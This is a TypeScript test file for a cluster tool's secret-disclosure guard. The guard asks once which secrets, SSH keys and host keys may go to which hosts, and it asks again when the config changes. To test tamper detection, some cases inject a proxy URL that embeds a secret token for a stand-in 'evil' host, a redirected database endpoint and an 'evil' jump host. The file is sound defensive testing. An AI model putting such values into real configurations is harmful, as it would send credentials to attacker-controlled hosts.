import { createHash } from 'node:crypto';
import { beforeEach, describe, expect, it } from 'vitest';
import { ok } from '../../../src/core/base/result';
import { parseDocument } from '../../../src/core/document/parse';
import { normalise } from '../../../src/core/cluster/normalise';
import { questionLines } from '../../../src/engine/secrets/disclosureQuestion';
import type {
  AgreementRecord,
  Agreements,
  DisclosureQuestion,
  SecretDoor,
  VouchedKey,
} from '../../../src/engine/ports';
import { createSecretDoor, type SecretDoorDependencies } from '../../../src/engine/secrets/secretDoor';

const FILE = `apiVersion: k3s-ha/v1
kind: Cluster
metadata: { name: edge }
datastore: { type: mysql, endpoint: "mysql://k3s:\${secret:db}@tcp(db:3306)/k3s" }
token: \${secret:token}
ssh:
  identityFile: ~/.ssh/edge
  password: \${env:EDGE_PASSWORD}
  passphrase: \${secret:phrase}
servers:
  nodes:
    - { host: 10.0.0.11, name: server-1 }
    - { host: 10.0.0.12, name: server-2, ssh: { port: 2222 } }
agents:
  nodes:
    - { host: 10.0.1.1 }
`;

const sha256 = (text: string): string => createHash('sha256').update(text).digest('hex');

let record: AgreementRecord;
let questions: DisclosureQuestion[];
let answers: boolean[];
const agreements: Agreements = {
  read: async () => record,
  update: async (change) => void (record = change(record)),
};

beforeEach(() => {
  record = { given: [], hostKeys: {} };
  questions = [];
  answers = [];
});

/** A door for one operation on a file; every value is its reference in capitals. */
function door(text = FILE, more: Partial<SecretDoorDependencies> = {}): SecretDoor {
  const document = parseDocument(text);
  return createSecretDoor({
    cluster: normalise(document.data),
    document,
    file: 'cluster.k3s.yaml',
    source: {
      resolve: async (written) => ok(written.toUpperCase()),
      worked: async () => undefined,
      refused: () => undefined,
    },
    agreements,
    sha256,
    ask: async (question) => {
      questions.push(question);
      return answers.shift() ?? false;
    },
    vouchedKeys: async () => [],
    nextSteps: () => ['agree'],
    ...more,
  });
}

const SERVER_1 = { host: '10.0.0.11' };
const asked = (): string => questionLines(questions.at(-1) ?? { file: '', items: [], hostKeys: [] }).join('\n');

describe('the door for secrets', () => {
  it('asks once for the whole file what goes where, from which line, and remembers the answer', async () => {
    answers = [true];
    const first = door();
    expect(await Promise.all([first.admit(), first.resolve('${secret:token}'), first.admit()])).toEqual([
      ok(undefined),
      ok('${SECRET:TOKEN}'),
      ok(undefined),
    ]);
    expect(questions).toHaveLength(1);
    expect(asked().split('\n')).toEqual([
      'To server-1 (10.0.0.11), server-2 (10.0.0.12:2222), 10.0.1.1:',
      '  • SSH key ~/.ssh/edge (ssh.identityFile, line 7): proves who you are; the key itself stays here',
      '  • environment variable EDGE_PASSWORD (ssh.password, line 8)',
      '  • secret "token" (token, line 5)',
      'To server-1 (10.0.0.11), server-2 (10.0.0.12:2222):',
      '  • secret "db" (datastore.endpoint, line 4): logs in to db:3306 from there',
    ]);
    expect(await door().admit()).toEqual(ok(undefined));
    expect(await door(`# a comment above\n${FILE}`).admit()).toEqual(ok(undefined));
    expect(questions).toHaveLength(1);
    expect(JSON.stringify(record)).not.toMatch(/token|EDGE|10\.0/);
  });

  it('gives nothing after a refusal, and does not ask again in the same operation', async () => {
    const refused = door();
    expect(await refused.resolve('x${env:EDGE_PASSWORD}')).toMatchObject({
      ok: false,
      error: { code: 'secrets-not-agreed', details: expect.arrayContaining([expect.stringContaining('line 8')]) },
    });
    expect((await refused.admit()).ok).toBe(false);
    expect(questions).toHaveLength(1);
    expect(record.given).toEqual([]);
    expect((await door().admit()).ok).toBe(false);
    expect(questions).toHaveLength(2);
  });

  it.each([
    ['another host', FILE.replace('host: 10.0.0.12', 'host: 10.6.6.6'), '10.6.6.6'],
    ['another port', FILE.replace('2222', '2223'), '10.0.0.12:2223'],
    [
      'another use',
      FILE.replace(
        'name: edge }',
        'name: edge }\nk3s: { install: { env: { HTTPS_PROXY: "http://evil/${secret:token}" } } }',
      ),
      'k3s.install.env.HTTPS_PROXY',
    ],
    ['another text around it', FILE.replace('tcp(db:3306)', 'tcp(evil:3306)'), 'secret "db"'],
    ['another secret', FILE.replace('secret:token', 'secret:prod-token'), 'secret "prod-token"'],
    ['another key', FILE.replace('~/.ssh/edge', '~/.ssh/id_ed25519'), 'SSH key ~/.ssh/id_ed25519'],
    [
      'a jump host that a key proves itself to',
      FILE.replace('identityFile:', 'proxyJump: evil\n  identityFile:'),
      'through evil',
    ],
  ])('asks again for %s, and only for that', async (_what, text, expected) => {
    answers = [true];
    await door().admit();
    expect((await door(text).admit()).ok).toBe(false);
    expect(questions).toHaveLength(2);
    expect(asked()).toContain(expected);
    const goings = (question: DisclosureQuestion | undefined): number =>
      question?.items.flatMap(({ to }) => to).length ?? 0;
    expect(goings(questions[1])).toBeLessThan(goings(questions[0]));
  });

  it('is bound to the host key: another one is told and asked about before anything is sent', async () => {
    answers = [true];
    await door().admit();
    expect(await door().meet(SERVER_1, 'SHA256:first')).toEqual(ok(undefined));
    expect(await door().meet(SERVER_1, 'SHA256:first')).toEqual(ok(undefined));
    expect(questions).toHaveLength(1);
    expect(await door().meet(SERVER_1, 'SHA256:other')).toMatchObject({
      ok: false,
      error: { code: 'secrets-not-agreed' },
    });
    expect(asked()).toContain('it was SHA256:first and is SHA256:other');
    answers = [true];
    expect((await door().meet(SERVER_1, 'SHA256:other')).ok).toBe(true);
    expect((await door().meet(SERVER_1, 'SHA256:other')).ok).toBe(true);
    expect(questions).toHaveLength(3);
  });

  it('asks about host keys that only the file vouches for, together with the secrets', async () => {
    const key: VouchedKey = {
      machine: SERVER_1,
      keyType: 'ssh-ed25519',
      fingerprint: 'SHA256:told',
      file: 'known_hosts',
    };
    const vouching = { vouchedKeys: async () => [key] };
    answers = [true];
    const first = door(FILE, vouching);
    expect(first.isAgreedKey(SERVER_1, 'SHA256:told')).toBe(false);
    await first.admit();
    expect(asked()).toContain('Host keys that only known_hosts vouches for');
    expect(asked()).toContain('server-1 (10.0.0.11)  ssh-ed25519 SHA256:told');
    expect([
      first.isAgreedKey(SERVER_1, 'SHA256:told'),
      first.isAgreedKey(SERVER_1, 'SHA256:else'),
      first.isAgreedKey({ host: '10.0.0.12' }, 'SHA256:told'),
    ]).toEqual([true, false, false]);
    await door(FILE, vouching).admit();
    expect(questions).toHaveLength(1);
    expect((await door(FILE, { vouchedKeys: async () => [{ ...key, fingerprint: 'SHA256:new' }] }).admit()).ok).toBe(
      false,
    );
  });

  it('asks nothing for a file that gives nothing, and nothing for a passphrase, which stays here', async () => {
    const text = FILE.replace(/datastore:.*\n|token:.*\n| {2}identityFile:.*\n| {2}password:.*\n/g, '');
    const open = door(text);
    expect(await open.admit()).toEqual(ok(undefined));
    expect(await open.resolve('${secret:phrase}')).toEqual(ok('${SECRET:PHRASE}'));
    expect(questions).toEqual([]);
    await expect(open.resolve('${env:HOME}')).rejects.toThrow('not among what cluster.k3s.yaml gives');
  });

  it('does not remember what was allowed for one run only', async () => {
    const allowed = { disclosure: () => true, key: () => true };
    expect((await door(FILE, { allowed }).admit()).ok).toBe(true);
    expect((await door(FILE, { allowed }).meet(SERVER_1, 'SHA256:first')).ok).toBe(true);
    expect(record).toEqual({ given: [], hostKeys: {} });
    expect((await door().admit()).ok).toBe(false);
  });

  it('takes a thousand hosts in one question without delay', async () => {
    answers = [true];
    const many = door(FILE.replace('host: 10.0.1.1', 'host: "10.0.[1-4].[1-250]"'));
    const started = performance.now();
    await many.admit();
    expect(performance.now() - started).toBeLessThan(2_000);
    expect(questionLines(questions[0] as DisclosureQuestion, 6)[0]).toMatch(/and 996 more:$/);
  });
});
